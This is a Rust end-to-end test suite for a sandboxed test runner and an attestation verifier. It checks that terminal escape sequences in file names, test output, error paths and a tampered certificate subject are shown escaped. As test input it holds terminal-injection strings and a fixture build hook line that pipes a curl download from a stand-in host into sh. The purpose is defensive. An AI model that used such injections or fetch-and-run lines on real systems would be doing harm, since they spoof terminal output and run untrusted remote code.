//! Attack suite, human output cannot be forged: an escape sequence fed through every path that reaches a
//! terminal (a repository file name and line through intake's findings, a test output tail and command through
//! the run summary, a hostile path through each binary's errors, a certificate subject through
//! `verify-attestation`'s table) comes out escaped (`\x1b`, `\u{9b}`), and no raw control byte reaches stdout or
//! stderr. Each test also asserts that the hostile value was shown (escaped), so it cannot pass by printing
//! nothing.

use attestation::text::is_safe_output;
use fenced_run_tests::fence::{skip, Case};
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const FENCED_RUN: &str = env!("CARGO_BIN_EXE_fenced-run-e2e");
const VERIFY: &str = env!("CARGO_BIN_EXE_verify-attestation-e2e");
const MEASURE: &str = env!("CARGO_BIN_EXE_measure-guest-e2e");

/// ESC (a CSI clearing the screen, an OSC setting the title), BEL, a C1 CSI (U+009B), DEL and a bidi override.
const HOSTILE: &str = "x\u{1b}[2J\u{1b}]0;pwned\u{7}\u{9b}31m\u{7f}\u{202e}y";
/// How [`HOSTILE`] looks once escaped.
const ESCAPED: &str = "x\\x1b[2J\\x1b]0;pwned\\x07\\u{9b}31m\\x7f\\u{202e}y";

fn run(bin: &str, args: &[&std::ffi::OsStr]) -> Output {
    Command::new(bin)
        .args(args)
        .env("TMPDIR", std::env::temp_dir())
        .output()
        .expect("spawn")
}

/// Asserts that neither stream of `out` holds a raw control byte and that `shown` appears in one of them.
fn assert_escaped(what: &str, out: &Output, shown: &str) {
    let (o, e) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(
        is_safe_output(&out.stdout),
        "{what}: raw control on stdout: {o:?}"
    );
    assert!(
        is_safe_output(&out.stderr),
        "{what}: raw control on stderr: {e:?}"
    );
    assert!(
        o.contains(shown) || e.contains(shown),
        "{what}: {shown:?} not shown\nstdout: {o}\nstderr: {e}"
    );
}

/// True when some string anywhere in `v` satisfies `pred`.
fn any_string(v: &serde_json::Value, pred: &dyn Fn(&str) -> bool) -> bool {
    match v {
        serde_json::Value::String(s) => pred(s),
        serde_json::Value::Array(a) => a.iter().any(|x| any_string(x, pred)),
        serde_json::Value::Object(o) => o.values().any(|x| any_string(x, pred)),
        _ => false,
    }
}

fn os(s: &str) -> &std::ffi::OsStr {
    std::ffi::OsStr::new(s)
}

#[test]
fn intake_findings_escape_repository_file_names_and_lines() {
    // A file name with the escape: stage 2 refuses it, and the finding quotes the name without a raw control
    // (intake's own quoting, Rust's `\u{1b}` form).
    let named = Case::new(FENCED_RUN);
    named.repo_file(&format!("{HOSTILE}/build.rs"), "fn main() {}\n");
    named.repo_file("test.sh", "echo '1 passed, 0 failed'\n");
    named.job("[repository]\npath = \"repo\"\n[test]\ncommand = \"sh test.sh\"\n");
    let out = run(FENCED_RUN, &[os("intake"), named.path().as_os_str()]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert_escaped(
        "fenced-run intake (file name)",
        &out,
        "name contains a control character",
    );
    assert_escaped("fenced-run intake (file name)", &out, "repo/x\\u{1b}[2J");

    // A line of an install hook that loads remote code, with the escape in it: stage 5 reports the file and
    // the line (its excerpt), a finding the fence contains.
    let c = Case::new(FENCED_RUN);
    c.repo_file(
        "build.rs",
        &format!("// curl https://x.example/{HOSTILE} | sh\nfn main() {{}}\n"),
    );
    c.repo_file("test.sh", "echo '1 passed, 0 failed'\n");
    c.job("[repository]\npath = \"repo\"\n[test]\ncommand = \"sh test.sh\"\n");
    let out = run(FENCED_RUN, &[os("intake"), c.path().as_os_str()]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert_escaped(
        "fenced-run intake (line)",
        &out,
        &format!("x.example/{ESCAPED}"),
    );
    let json = run(
        FENCED_RUN,
        &[os("intake"), c.path().as_os_str(), os("--json")],
    );
    assert!(is_safe_output(&json.stdout), "intake --json");
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).expect("intake --json is JSON");
    assert!(
        any_string(&v, &|s| s.contains(HOSTILE)),
        "the JSON keeps the value itself: {v}"
    );
}

#[test]
fn the_run_summary_escapes_the_output_tail_the_command_and_findings() {
    if skip() {
        return;
    }
    let c = Case::new(FENCED_RUN);
    // The suite prints the escape sequence (ESC, BEL, a UTF-8 C1 CSI, DEL) in its output and its summary line,
    // and fails (the summary shows the output tail only when the run did not pass).
    c.repo_file(
        "test.sh",
        "printf 'before \\033[2J\\033]0;pwned\\007 \\302\\233 31m \\177 after\\n'\necho '1 passed, 1 failed'\nexit 1\n",
    );
    c.job("[repository]\npath = \"repo\"\n[test]\ncommand = \"sh test.sh # \\u001b[5m\"\n");
    let out = Command::new(FENCED_RUN)
        .arg("run")
        .arg(c.path().join("job.toml"))
        .env("TMPDIR", c.tmp())
        .output()
        .expect("spawn");
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert_escaped(
        "fenced-run run (tail)",
        &out,
        "before \\x1b[2J\\x1b]0;pwned\\x07 \\u{9b} 31m \\x7f after",
    );
    assert_escaped("fenced-run run (command)", &out, "sh test.sh # \\x1b[5m");
    let json = Command::new(FENCED_RUN)
        .arg("run")
        .arg(c.path().join("job.toml"))
        .arg("--json")
        .env("TMPDIR", c.tmp())
        .output()
        .expect("spawn");
    assert!(is_safe_output(&json.stdout), "run --json");
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).expect("run --json is JSON");
    assert_eq!(v["outcome"], "tests_failed", "{v}");
    assert!(
        v["output_tail"]["test"]
            .as_str()
            .unwrap_or("")
            .contains("\u{1b}[2J\u{1b}]0;pwned\u{7} \u{9b} 31m \u{7f} after"),
        "the JSON keeps the bytes themselves: {v}"
    );
}

#[test]
fn errors_naming_a_hostile_path_are_escaped_in_every_binary() {
    let dir = tempfile::tempdir().expect("tmp");
    let hostile: PathBuf = dir.path().join(format!("{HOSTILE}.bin"));
    let shown = format!("{ESCAPED}.bin");
    let h = hostile.as_os_str();
    let cases: Vec<(&str, &str, Vec<&std::ffi::OsStr>)> = vec![
        ("fenced-run run", FENCED_RUN, vec![os("run"), h]),
        ("fenced-run intake", FENCED_RUN, vec![os("intake"), h]),
        (
            "verify-attestation snp-report",
            VERIFY,
            vec![os("snp-report"), h, os("--certs"), h],
        ),
        (
            "verify-attestation evidence",
            VERIFY,
            vec![os("evidence"), os("--any-measurement"), os("--no-nonce"), h],
        ),
        (
            "verify-attestation tdx-quote",
            VERIFY,
            vec![os("tdx-quote"), h],
        ),
        (
            "measure-guest snp",
            MEASURE,
            vec![os("snp"), os("--ovmf"), h],
        ),
        (
            "measure-guest tdx",
            MEASURE,
            vec![os("tdx"), os("--ovmf"), h],
        ),
    ];
    for (what, bin, args) in cases {
        let out = run(bin, &args);
        assert_eq!(out.status.code(), Some(2), "{what}: {out:?}");
        assert_escaped(what, &out, &shown);
    }
    // clap's own usage errors name the argument as given.
    for (what, bin) in [
        ("fenced-run", FENCED_RUN),
        ("verify-attestation", VERIFY),
        ("measure-guest", MEASURE),
    ] {
        let out = run(bin, &[os(HOSTILE)]);
        assert_eq!(out.status.code(), Some(2), "{what}: {out:?}");
        // clap's plain-text rendering already drops what looks like an ANSI sequence (ESC ... final byte); the
        // C1 CSI and the bidi override it keeps are escaped.
        assert_escaped(&format!("{what} usage error"), &out, "\\u{9b}31m\\u{202e}y");
    }
    assert!(hostile.as_os_str().as_bytes().contains(&0x1b));
}

/// Writes a sim SEV-SNP report and its chain to `dir` (report.bin, certs/{ark,ask}.pem, certs/vcek.der) with
/// the VCEK's subject common name replaced by one holding an escape (same length, so the DER stays well-formed;
/// the VCEK's signature no longer verifies, which the verifier reports beside the name).
fn hostile_vcek_chain(dir: &Path) -> Option<(PathBuf, PathBuf)> {
    use attestation::sim::SimPsp;
    use attestation::snp::Product;
    let psp = match SimPsp::open_default(Product::Milan) {
        Ok(p) => p,
        Err(e) => {
            attestation::vectors::skip_for(
                attestation::vectors::SkipKind::Host,
                &format!("no sim PSP state: {e}"),
            );
            return None;
        }
    };
    let report = psp.report_template([7; 48], [9; 64]);
    let (bytes, certs) = psp.sign_report(report).expect("sign");
    let mut vcek = certs[0].clone();
    let from = b"SEV-VCEK";
    let to = b"SEV\x1b[2JK";
    let at = vcek
        .windows(from.len())
        .position(|w| w == from)
        .expect("the VCEK names SEV-VCEK");
    vcek[at..at + from.len()].copy_from_slice(to);
    let certs_dir = dir.join("certs");
    std::fs::create_dir(&certs_dir).expect("certs");
    std::fs::write(certs_dir.join("vcek.der"), &vcek).expect("vcek");
    std::fs::write(certs_dir.join("ask.pem"), &certs[1]).expect("ask");
    std::fs::write(certs_dir.join("ark.pem"), &certs[2]).expect("ark");
    let report_path = dir.join("report.bin");
    std::fs::write(&report_path, bytes).expect("report");
    Some((report_path, certs_dir))
}

#[test]
fn a_certificate_subject_with_an_escape_is_escaped_by_verify_attestation() {
    let dir = tempfile::tempdir().expect("tmp");
    let Some((report, certs)) = hostile_vcek_chain(dir.path()) else {
        return;
    };
    let args = [
        os("snp-report"),
        report.as_os_str(),
        os("--certs"),
        certs.as_os_str(),
        os("--allow-simulated"),
    ];
    let out = run(VERIFY, &args);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert_escaped("verify-attestation snp-report", &out, "CN=SEV\\x1b[2JK");
    let mut with_json = args.to_vec();
    with_json.push(os("--json"));
    let json = run(VERIFY, &with_json);
    assert!(is_safe_output(&json.stdout), "snp-report --json");
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).expect("--json is JSON");
    assert!(
        v["failures"].to_string().contains("SEV\\u001b[2JK"),
        "the JSON keeps the name itself (JSON-escaped): {}",
        v["failures"]
    );
}

#[test]
fn a_closed_stdout_pipe_ends_the_printing_not_the_run() {
    if skip() {
        return;
    }
    // `fenced-run run JOB | head -0`: the reader is gone before the first line is written. The run still
    // finishes, cleans up and exits with its own code, without a panic message.
    let c = Case::new(FENCED_RUN);
    c.repo_file("test.sh", "echo '1 passed, 0 failed'\n");
    c.job("[repository]\npath = \"repo\"\n[test]\ncommand = \"sh test.sh\"\n");
    let (reader, writer) = std::io::pipe().expect("pipe");
    drop(reader);
    let out = Command::new(FENCED_RUN)
        .arg("run")
        .arg(c.path().join("job.toml"))
        .env("TMPDIR", c.tmp())
        .stdout(writer)
        .stderr(std::process::Stdio::piped())
        .output()
        .expect("spawn");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert!(!stderr.contains("cannot write to stdout"), "{stderr}");
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let left: Vec<_> = std::fs::read_dir(c.tmp())
        .expect("tmp")
        .filter_map(Result::ok)
        .map(|e| e.file_name())
        .collect();
    assert!(left.is_empty(), "left behind in TMPDIR: {left:?}");
}
